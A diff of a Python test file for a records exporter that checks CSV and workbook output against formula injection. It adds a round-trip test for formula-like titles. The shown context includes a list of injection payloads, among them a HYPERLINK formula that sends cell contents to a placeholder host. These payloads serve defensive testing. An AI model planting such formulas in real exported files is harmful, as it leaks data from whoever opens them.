@@ -6,9 +6,11 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from records_sync.exporting import statistics_tables, write_csv, write_tables, write_xlsx
+from records_sync.exporting import cells, statistics_tables, write_csv, write_tables, write_xlsx
+from records_sync.index.query import Entry
 from records_sync.index.statistics import Statistics
 from records_sync.model import UnitSummary
+from tests import records_files_kit as kit
 
 PAYLOADS = (
     '=HYPERLINK("http://x.example/"&A1,"甲")',
@@ -19,7 +21,7 @@ PAYLOADS = (
     "\t=1+1",
     "\r=1+1",
 )
-HARMLESS = ("关于机构编制的通知", "１－２", "a=b", "<script>alert(1)</script>", "'=1", " =1")
+HARMLESS = ("关于机构编制的通知", "１－２", "a=b", "<script>alert(1)</script>", "'甲", " =1")
 
 
 def read_back(path: Path) -> list[list[str]]:
@@ -37,6 +39,16 @@ def test_h14_a_formula_is_text_in_a_csv_file(tmp_path: Path, text: str) -> None:
 def test_h14_other_text_is_written_as_it_is(tmp_path: Path, text: str) -> None:
     write_csv(tmp_path / "a.csv", [(text,)], ("题名",))
     assert read_back(tmp_path / "a.csv")[1] == [text]
+
+
+@pytest.mark.parametrize("title", ["=1+1公式", "'=1", "''＋1", "'甲", "-", "@甲", "甲'=1"])
+def test_what_was_exported_comes_back_as_it_was(tmp_path: Path, title: str) -> None:
+    [before] = kit.records_of(
+        kit.write_csv(tmp_path / "a.csv", [("档号", "题名"), ("J1-1", title)])
+    )
+    assert before.title == title
+    write_csv(tmp_path / "out.csv", [cells(Entry(number=1, source="main", record=before))])
+    assert kit.records_of(tmp_path / "out.csv") == [before]
 
 
 def test_h14_a_formula_is_text_in_a_workbook(tmp_path: Path) -> None:
